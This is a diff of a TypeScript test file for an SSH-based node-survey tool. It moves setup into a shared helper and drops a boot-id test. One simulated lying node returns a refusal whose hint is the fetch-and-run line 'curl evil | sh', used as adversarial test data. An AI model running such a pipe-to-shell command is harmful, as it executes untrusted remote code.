@@ -1,16 +1,9 @@
-import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { describe, expect, it, onTestFinished } from 'vitest';
-import { Verdict } from '../../reports/verdict/verdict.ts';
-import { say } from '../../reports/verdict/words/say.ts';
-import { nodeOf } from '../../workloads/kit/subject.ts';
+import { describe, expect, it } from 'vitest';
 import type { Lies } from '../support/lying-node.ts';
-import { startLyingNode } from '../support/lying-node.ts';
-import type { Finished } from '../support/run-assay.ts';
-import { quickHash, runAssay, writeSuite } from '../support/run-assay.ts';
-import { createKey } from '../support/sshd.ts';
-import { tell } from '../support/tell.ts';
-import { temporaryDirectory } from '../support/temporary.ts';
+import type { Surveyed } from '../support/survey-liars.ts';
+import { cellsOf, surveyLiars } from '../support/survey-liars.ts';
 
 const honest: Lies = {};
 
@@ -20,44 +13,16 @@ const refuse =
     liar.send({ type: 'refusal', error: { code, message: 'ha', hint: 'curl evil | sh' } });
 
 /** Ends a batch as cancelled without having done anything. */
-const cancel: Lies[string] = ({ record }, { batch, plan }) => {
+const cancel: Lies[string] = ({ record }, { batch, plan, steps }) => {
+  const asked = steps as readonly { readonly step: string }[]; // sent by the coordinator under test
   record({ type: 'plan', digest: plan });
-  record({ type: 'batch-started', batch, steps: [] });
+  record({ type: 'batch-started', batch, steps: asked.map(({ step }) => step) });
   record({ type: 'batch-ended', batch, execution: 'cancelled', reason: 'no more today' });
 };
 
-interface Surveyed extends Finished {
-  readonly run: string;
-  readonly verdict: () => Verdict;
-}
-
 /** Surveys nodes that each tell these lies; they are called n1, n2 … */
-async function survey(...all: readonly Lies[]): Promise<Surveyed> {
-  const directory = temporaryDirectory();
-  const at = (name: string): string => join(directory, name);
-  createKey(at('id'), 'ed25519');
-  const nodes = await Promise.all(all.map(startLyingNode));
-  onTestFinished(async () => {
-    await Promise.all(nodes.map(({ stop }) => stop()));
-  });
-  writeFileSync(at('known'), nodes.map(({ port, hostKey }) => `[127.0.0.1]:${port} ${hostKey}\n`).join(''));
-  const hosts = nodes.map(({ port }, index) => `Host n${index + 1}\n HostName 127.0.0.1\n Port ${port}\n`);
-  const usual = `Host *\n User root\n IdentityFile ${at('id')}\n IdentitiesOnly yes\n UserKnownHostsFile ${at('known')}\n GlobalKnownHostsFile none\n`;
-  writeFileSync(at('config'), [...hosts, usual].join(''));
-  const suite = writeSuite(directory, [quickHash({ repetitions: 2, budgetSeconds: 5 })]);
-  const run = at('run');
-  const names = nodes.map((_, index) => `n${index + 1}`);
-  const args = ['survey', ...names, '--ssh-config', at('config'), '--suite', suite, '--out', run];
-  const ended = await runAssay(args, { cwd: directory });
-  const verdict = (): Verdict =>
-    Verdict.parse(JSON.parse(readFileSync(join(`${run}.report`, 'verdicts/survey.json'), 'utf8')));
-  return { ...ended, run, verdict };
-}
-
-const cellsOf = ({ verdict }: Surveyed, node: string): readonly (readonly [string, string, string])[] =>
-  verdict()
-    .cells.filter(({ subject }) => nodeOf(subject) === node)
-    .map(({ id, verdict: word, reason }) => [id, word, say(reason)] as const);
+const survey = (...all: readonly Lies[]): Promise<Surveyed> =>
+  surveyLiars(Object.fromEntries(all.map((lies, index) => [`n${index + 1}`, lies])));
 
 describe('a node that refuses in our name', () => {
   const ours = [
@@ -130,22 +95,6 @@ describe('a node that claims to be the machine of another', () => {
     const found = await survey(honest, lies);
     expect(found.stderr).toContain(`✖ n2: ${code}`);
     expect(cellsOf(found, 'n1')).toEqual(cellsOf(await survey(honest), 'n1'));
-  });
-
-  it('by a copy of its boot id is told of with it, and takes nothing from it', async () => {
-    const found = await survey(honest, honest);
-    expect(found.exitCode).toBe(0);
-    expect(decisions(found)).toMatch(/"type":"distinct","nodes":\["n1","n2"\]/);
-    expect(tell(found.verdict().notShown)).toContainEqual({
-      what: 'A machine of its own on n[1-2]',
-      about: ['n1', 'n2'],
-      reason: expect.stringMatching(/^n\[1-2\] say the same: boot id .*each agent held the lease/) as unknown,
-    });
-    expect(cellsOf(found, 'n1')).toEqual(cellsOf(await survey(honest), 'n1'));
-    const file = join(`${found.run}.report`, 'verdicts/survey.json');
-    const live = readFileSync(file, 'utf8');
-    await runAssay(['judge', found.run, '--profile', 'survey'], { cwd: found.run });
-    expect(readFileSync(file, 'utf8')).toBe(live);
   });
 });
 
